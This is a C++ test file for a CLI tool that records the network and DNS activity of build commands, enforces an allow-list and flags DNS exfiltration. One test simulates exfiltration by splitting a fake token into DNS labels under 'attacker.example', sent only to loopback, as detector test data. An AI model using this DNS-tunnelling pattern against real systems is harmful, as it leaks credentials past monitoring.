// `gouvernante run` and `gouvernante net events|exfil`, in process through
// run_cli, with real child processes on loopback: what is recorded lands in
// the inventory, the command's exit status is ours, and our own failures
// (flags, allow-list, database) are caught before the command runs.
#include "cli/egress_cmd.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <nlohmann/json.hpp>
#include <sstream>

#include "cli/cli.h"
#include "cli/cli_run.h"
#include "common/temp_dir.h"

namespace gv {
namespace {

using ::testing::HasSubstr;
using testing::TempDir;
using testing::CmdResult;
using testing::run;
using testing::json_of;

// A Python one-liner that sends DNS questions for `names` to 127.0.0.1:53
// (nothing needs to listen: the question is recorded as it is sent).
std::string dns_script(const std::vector<std::string>& names, int exit_code) {
  std::string s = "import socket,struct,sys\nu=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\n"
                  "def q(n,t):\n  b=struct.pack('>HHHHHH',7,0x100,1,0,0,0)\n"
                  "  for l in n.split('.'): b+=bytes([len(l)])+l.encode()\n"
                  "  u.sendto(b+bytes([0])+struct.pack('>HH',t,1),('127.0.0.1',53))\n";
  for (const std::string& n : names) s += "q('" + n + "',1)\n";
  return s + "sys.exit(" + std::to_string(exit_code) + ")\n";
}

TEST(RunCommand, RecordsIntoTheInventoryAndExitsWithTheCommandsStatus) {
  TempDir t;
  const std::string db = t.str() + "/inv.db";
  CmdResult r = run({"run", "--db", db, "--org", "acme", "--repo", "web", "--job", "build", "--run-id", "run-1", "--",
                     "/usr/bin/python3", "-c", dns_script({"registry.npmjs.org"}, 5)});
  EXPECT_EQ(r.code, 5) << r.err;
  EXPECT_THAT(r.err, HasSubstr("`/usr/bin/python3` exited 5"));
  EXPECT_THAT(r.err, HasSubstr("1 DNS questions, 0 blocked"));
  EXPECT_THAT(r.err, HasSubstr("as run run-1 in "));
  EXPECT_THAT(r.err, HasSubstr("Not seen: containers started by a daemon"));
  CmdResult ev = run({"net", "events", "--db", db, "--json"});
  ASSERT_EQ(ev.code, 0) << ev.err;
  nlohmann::json j = json_of(ev);
  ASSERT_EQ(j["events"].size(), 1u) << ev.out;
  const nlohmann::json& e = j["events"][0];
  EXPECT_EQ(e["run_id"], "run-1");
  EXPECT_EQ(e["repo"], "web");
  EXPECT_EQ(e["job"], "build");
  EXPECT_EQ(e["kind"], "dns");
  EXPECT_EQ(e["domain"], "registry.npmjs.org");
  EXPECT_EQ(e["query_type"], "A");
  EXPECT_EQ(e["address"], "127.0.0.1");
  EXPECT_EQ(e["port"], 53);
  EXPECT_EQ(e["action"], "allowed");
  EXPECT_EQ(e["argv"][0], "/usr/bin/python3");
  EXPECT_THAT(e["exe"].get<std::string>(), HasSubstr("python3"));
  EXPECT_THAT(e["time"].get<std::string>(), ::testing::MatchesRegex("20[0-9-]+T[0-9:.]+Z"));
  // A run id is a record: given twice, the second is refused before the
  // command runs (ALockedOrCorrupt... checks it did not run).
  CmdResult twice = run({"run", "--db", db, "--run-id", "run-1", "--", "true"});
  EXPECT_EQ(twice.code, 1);
  EXPECT_THAT(twice.err, HasSubstr("run id 'run-1' is already recorded"));
}

TEST(RunCommand, BlockModeFromTheCommandLine) {
  TempDir t;
  const std::string db = t.str() + "/inv.db";
  CmdResult r = run({"run", "--db", db, "--policy", "block", "--allow", "*.npmjs.org", "--run-id", "b", "--",
                     "/usr/bin/python3", "-c",
                     "import socket\ntry:\n  exec(" + nlohmann::json(dns_script({"registry.npmjs.org", "x.evil.test"}, 0)).dump() +
                         ")\nexcept PermissionError: raise SystemExit(9)\n"});
  EXPECT_EQ(r.code, 9) << r.err;
  CmdResult ev = run({"net", "events", "--db", db, "--run-id", "b", "--json"});
  nlohmann::json j = json_of(ev);
  ASSERT_EQ(j["events"].size(), 2u) << ev.out;
  EXPECT_EQ(j["events"][0]["action"], "allowed");
  EXPECT_EQ(j["events"][1]["domain"], "x.evil.test");
  EXPECT_EQ(j["events"][1]["action"], "blocked");
}

TEST(RunCommand, OurFailuresComeBeforeTheCommandRuns) {
  TempDir t;
  const std::string marker = t.str() + "/ran";
  auto fails = [&](std::vector<std::string> flags, const std::string& says) {
    std::vector<std::string> args{"run"};
    args.insert(args.end(), flags.begin(), flags.end());
    args.insert(args.end(), {"--", "sh", "-c", "touch '" + marker + "'"});
    CmdResult r = run(args);
    EXPECT_EQ(r.code, 1) << r.err;
    EXPECT_THAT(r.err, HasSubstr(says));
    EXPECT_FALSE(std::filesystem::exists(marker)) << "the command ran";
  };
  fails({"--db", t.str() + "/a.db", "--policy", "block", "--allow", "exa mple.com"}, "--allow exa mple.com");
  fails({"--db", t.str() + "/a.db", "--policy", "block", "--allow-file", t.str() + "/none"}, "/none");
  fails({"--db", t.str() + "/a.db", "--allow", "example.com"}, "--allow is for --policy block");
  fails({"--db", t.str() + "/a.db", "--policy", "deny"}, "--policy");
  fails({"--db", t.write("junk.db", std::string(4096, 'x'))}, "junk.db");
  CmdResult none = run({"run", "--db", t.str() + "/b.db", "--", "gouvernante-no-such-command"});
  EXPECT_EQ(none.code, 1);
  EXPECT_THAT(none.err, HasSubstr("command not found"));
  CmdResult empty = run({"run", "--db", t.str() + "/b.db"});
  EXPECT_EQ(empty.code, 1);
  EXPECT_THAT(empty.err, HasSubstr("no command"));
}

TEST(NetExfil, FlagsEncodedLabelsAndNotANormalInstall) {
  TempDir t;
  const std::string db = t.str() + "/inv.db";
  std::vector<std::string> leak;
  const std::string secret = "GH5TOKENZX7Q2M4PLV8RWJ3KD6YB9NCFAESUTHGIOXQ7Z2L5M8P3R6V9W2K4J7D";
  for (size_t i = 0; i + 30 <= secret.size(); i += 10) leak.push_back(secret.substr(i, 30) + ".t.attacker.example");
  ASSERT_EQ(run({"run", "--db", db, "--run-id", "evil", "--", "/usr/bin/python3", "-c", dns_script(leak, 0)}).code, 0);
  ASSERT_EQ(run({"run", "--db", db, "--run-id", "normal", "--", "/usr/bin/python3", "-c",
                 dns_script({"registry.npmjs.org", "github.com", "codeload.github.com", "objects.githubusercontent.com",
                             "nodejs.org"},
                            0)})
                .code,
            0);
  CmdResult r = run({"net", "exfil", "--db", db, "--json"});
  EXPECT_EQ(r.code, 2) << r.err;
  nlohmann::json j = json_of(r);
  ASSERT_EQ(j["suspects"].size(), 1u) << r.out;
  EXPECT_EQ(j["suspects"][0]["run_id"], "evil");
  EXPECT_EQ(j["suspects"][0]["parent_domain"], "attacker.example");
  EXPECT_FALSE(j["suspects"][0]["reasons"].empty());
  CmdResult normal = run({"net", "exfil", "--db", db, "--run-id", "normal"});
  EXPECT_EQ(normal.code, 0) << normal.out;
  EXPECT_THAT(normal.out, HasSubstr("0 suspects in 5 DNS questions of 1 run"));
  CmdResult typo = run({"net", "exfil", "--db", db, "--run-id", "nromal"});
  EXPECT_EQ(typo.code, 1);
  EXPECT_THAT(typo.err, HasSubstr("no recorded run matches --run-id nromal"));
  // A run with no network use at all is an answer, not an error.
  ASSERT_EQ(run({"run", "--db", db, "--run-id", "quiet", "--", "true"}).code, 0);
  CmdResult quiet = run({"net", "exfil", "--db", db, "--run-id", "quiet"});
  EXPECT_EQ(quiet.code, 0) << quiet.err;
  EXPECT_THAT(quiet.out, HasSubstr("0 suspects in 0 DNS questions of 1 run"));
  CmdResult missing = run({"net", "events", "--db", t.str() + "/none.db"});
  EXPECT_EQ(missing.code, 1);
  EXPECT_THAT(missing.err, HasSubstr("no inventory at"));
}

// Sets an environment variable for one test.
struct ScopedEnv {
  std::string name;
  ScopedEnv(std::string n, const std::string& value) : name(std::move(n)) { ::setenv(name.c_str(), value.c_str(), 1); }
  ~ScopedEnv() { ::unsetenv(name.c_str()); }
};

// Holds an exclusive lock on a SQLite file from another process for `secs`;
// returns once the lock is held.
FILE* hold_lock(const std::string& db, double secs) {
  const std::string cmd = "/usr/bin/python3 -c \"import sqlite3,sys,time\nc=sqlite3.connect('" + db +
                          "',isolation_level=None)\nc.execute('BEGIN EXCLUSIVE')\nprint('held',flush=True)\ntime.sleep(" +
                          std::to_string(secs) + ")\"";
  FILE* p = ::popen(cmd.c_str(), "r");
  char line[16] = {};
  if (p == nullptr || std::fgets(line, sizeof line, p) == nullptr) return p;
  return p;
}

// Our failures before CMD runs: a locked database, a corrupt one, a run id
// already taken. CMD (which would create a marker file) never starts.
TEST(RunCommand, ALockedOrCorruptDatabaseOrATakenRunIdStopsBeforeTheCommand) {
  TempDir t;
  const std::string db = t.str() + "/inv.db";
  const std::string marker = t.str() + "/ran";
  const std::vector<std::string> cmd = {"--", "/usr/bin/touch", marker};
  ASSERT_EQ(run({"run", "--db", db, "--run-id", "r1", "--", "/usr/bin/true"}).code, 0);

  CmdResult taken = run({"run", "--db", db, "--run-id", "r1", "--", "/usr/bin/touch", marker});
  EXPECT_EQ(taken.code, 1);
  EXPECT_THAT(taken.err, HasSubstr("run id 'r1' is already recorded"));
  EXPECT_FALSE(std::filesystem::exists(marker));

  ScopedEnv quick("GOUVERNANTE_DB_BUSY_TIMEOUT", "0.2");
  FILE* holder = hold_lock(db, 2);
  ASSERT_NE(holder, nullptr);
  CmdResult locked = run({"run", "--db", db, "--", "/usr/bin/touch", marker});
  ::pclose(holder);
  EXPECT_EQ(locked.code, 1);
  EXPECT_THAT(locked.err, HasSubstr("database is locked"));
  EXPECT_THAT(locked.err, HasSubstr(db));
  EXPECT_FALSE(std::filesystem::exists(marker));

  const std::string bad = t.str() + "/bad.db";
  {
    std::ofstream(bad) << std::string(4096, 'x');
  }
  CmdResult corrupt = run({"run", "--db", bad, "--", "/usr/bin/touch", marker});
  EXPECT_EQ(corrupt.code, 1);
  EXPECT_THAT(corrupt.err, HasSubstr("not a database"));
  EXPECT_FALSE(std::filesystem::exists(marker));
}

// The database locked while CMD ran (here by CMD's own child, which outlives
// it): the record is not lost -- it goes to a JSON Lines file that
// `net import` takes once the database is free.
TEST(RunCommand, ARecordTheDatabaseRefusesIsKeptInAFileNetImportReads) {
  TempDir t;
  const std::string db = t.str() + "/inv.db";
  ASSERT_EQ(run({"run", "--db", db, "--run-id", "first", "--", "/usr/bin/true"}).code, 0);
  ScopedEnv quick("GOUVERNANTE_DB_BUSY_TIMEOUT", "0.2");
  ScopedEnv tmp("TMPDIR", t.str());
  const std::string locker = "import sqlite3,time\nc=sqlite3.connect('" + db +
                             "',isolation_level=None)\nc.execute('BEGIN EXCLUSIVE')\ntime.sleep(2)\n";
  const std::string script = dns_script({"kept.example.test"}, 0);
  CmdResult r = run({"run", "--db", db, "--run-id", "spilled", "--", "/bin/sh", "-c",
                     "/usr/bin/python3 -c \"" + script + "\" && (/usr/bin/python3 -c \"" + locker +
                         "\" &) && sleep 0.5"});
  EXPECT_EQ(r.code, 1);
  EXPECT_THAT(r.err, HasSubstr("its record was not saved"));
  EXPECT_THAT(r.err, HasSubstr("gouvernante net import "));
  const std::filesystem::path cwd_file = "gouvernante-run-spilled.jsonl";
  const std::filesystem::path spill =
      std::filesystem::exists(cwd_file) ? cwd_file : std::filesystem::path(t.str()) / cwd_file;
  ASSERT_TRUE(std::filesystem::exists(spill)) << r.err;
  ::sleep(2);  // the locker is done
  CmdResult imported = run({"net", "import", spill.string(), "--db", db});
  EXPECT_EQ(imported.code, 0) << imported.err;
  CmdResult ev = run({"net", "events", "--db", db, "--run-id", "spilled", "--json"});
  ASSERT_EQ(ev.code, 0) << ev.err;
  EXPECT_EQ(json_of(ev)["events"].at(0)["domain"], "kept.example.test");
  std::filesystem::remove(cwd_file);
}

}  // namespace
}  // namespace gv
